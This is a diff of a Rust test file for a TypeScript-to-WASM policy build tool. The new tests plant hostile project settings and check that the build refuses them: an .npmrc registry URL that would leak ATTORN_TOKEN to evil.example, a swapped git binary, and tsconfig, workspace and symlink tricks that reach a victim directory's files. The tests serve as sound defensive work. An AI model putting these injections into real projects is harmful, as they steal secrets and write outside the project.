@@ -2,6 +2,7 @@
 //! npm's registry.
 
 use std::fs;
+use std::os::unix::fs::symlink;
 use std::path::Path;
 use std::process::{Command, Output};
 
@@ -47,14 +48,86 @@ fn what_a_policy_cannot_have_is_said_when_it_is_built() {
         write(&project, top, evaluate);
         refused(&project, &["build"], 1, said, " ");
     }
-    fs::remove_file(project.join("tsconfig.json")).unwrap();
-    write(&project, "import { readFileSync } from \"node:fs\";", "return readFileSync(\"x\") ? allow() : allow();");
+    let import = "// @ts-ignore\nimport { readFileSync } from \"node:fs\";";
+    write(&project, import, "return readFileSync(\"x\") ? allow() : allow();");
     refused(&project, &["build"], 1, "node:fs", "a policy has no modules of Node");
     fs::write(project.join("src/policy.ts"), "export const policy = 7;\n").unwrap();
     refused(&project, &["build"], 1, "has to export `policy`, made by `definePolicy`", "the top of a module");
     fs::remove_file(project.join("src/policy.ts")).unwrap();
     refused(&project, &["build"], 1, "there is no `src/policy.ts`", "");
+    write(&project, "", "return allow();");
+    fs::remove_file(project.join("tsconfig.json")).unwrap();
+    refused(&project, &["build"], 1, "there is no `tsconfig.json`", "");
     assert_eq!(fs::read_to_string(project.join("policy.wasm")).unwrap(), "before", "a component is left as it was");
+}
+
+#[test]
+fn a_strangers_project_runs_writes_and_reads_nothing_but_its_own() {
+    let home = project();
+    let project = home.path().join("listed-actions");
+    let victim = home.path().join("victim");
+    fs::create_dir(&victim).unwrap();
+    fs::write(victim.join("policy.js"), "mine").unwrap();
+    fs::write(victim.join("secret.json"), "\"mine\"").unwrap();
+
+    // A directory further up says that this is a part of it, and its settings of npm would count then.
+    fs::write(home.path().join("package.json"), r#"{ "workspaces": ["listed-actions"] }"#).unwrap();
+    fs::write(home.path().join(".npmrc"), "cache=./stolen\n").unwrap();
+    // Packages that come with it, among them one where a tool once wrote.
+    let brought = project.join("node_modules/.attorn");
+    fs::create_dir_all(&brought).unwrap();
+    symlink(victim.join("policy.js"), brought.join("policy.js")).unwrap();
+    let (code, out, said) = attorn(&project, &["build"]);
+    assert_eq!(code, 0, "{out}{said}");
+    assert!(!home.path().join("stolen").exists(), "a setting from further up counted");
+    assert!(!brought.exists(), "what came with the project was taken for its packages");
+
+    for (file, from, to, said, help) in [
+        (".npmrc", "ignore-scripts=true", "git=./tools/git", "`git` is not for a project to set", ""),
+        (".npmrc", "ignore-scripts=true", "registry=http://evil.example/${ATTORN_TOKEN}/", "from the environment", ""),
+        ("package.json", "\"private\": true", "\"workspaces\": [\"../victim\"]", "`workspaces` are other", ""),
+        ("package.json", "\"esbuild\": \"0", "\"evil\": \"a/b\", \"esbuild\": \"0", "is a package from git", ""),
+        (
+            "package.json",
+            "\"typescript\": \"7",
+            "\"typescript\": \"6",
+            "does not satisfy typescript@6",
+            "`package-lock.json` does not fit",
+        ),
+        ("tsconfig.json", "\"noEmit\": true", "\"tsBuildInfoFile\": \"../victim/policy.js\"", "`tsBuildInfoFile`", ""),
+        ("tsconfig.json", "\"noEmit\": true", "\"generateTrace\": \"../victim\"", "`generateTrace`", ""),
+        (
+            "src/policy.ts",
+            "const LISTED",
+            "// @ts-ignore\nimport x from \"../../victim/secret.json\";\nconsole.log(x);\nconst LISTED",
+            "lies outside",
+            "its own modules",
+        ),
+    ] {
+        let path = project.join(file);
+        let before = fs::read_to_string(&path).unwrap();
+        assert!(before.contains(from), "{file}: {from}");
+        fs::write(&path, before.replacen(from, to, 1)).unwrap();
+        refused(&project, &["build"], 1, said, help);
+        fs::write(&path, before).unwrap();
+    }
+    fs::remove_dir_all(project.join("node_modules")).unwrap();
+    symlink(&victim, project.join("node_modules")).unwrap();
+    refused(&project, &["build"], 1, "node_modules`: it is no directory, or a link to one", "");
+    let left: Vec<_> = fs::read_dir(&victim).unwrap().map(|entry| entry.unwrap().file_name()).collect();
+    assert!(left.len() == 2 && fs::read_to_string(victim.join("policy.js")).unwrap() == "mine", "{left:?}");
+}
+
+#[test]
+fn what_a_tool_says_of_a_project_is_said_once() {
+    let home = project();
+    let project = home.path().join("listed-actions");
+    write(&project, "", "return ctx.request.acton;");
+    let (_, _, said) = attorn(&project, &["build"]);
+    assert_eq!(said.matches("src/policy.ts(5,").count(), 1, "{said}");
+    write(&project, "// @ts-ignore\nimport x from \"./nowhere\";\nconsole.log(x);", "return allow();");
+    let (_, _, said) = attorn(&project, &["build"]);
+    assert_eq!(said.matches("Could not resolve \"./nowhere\"").count(), 1, "{said}");
 }
 
 #[test]
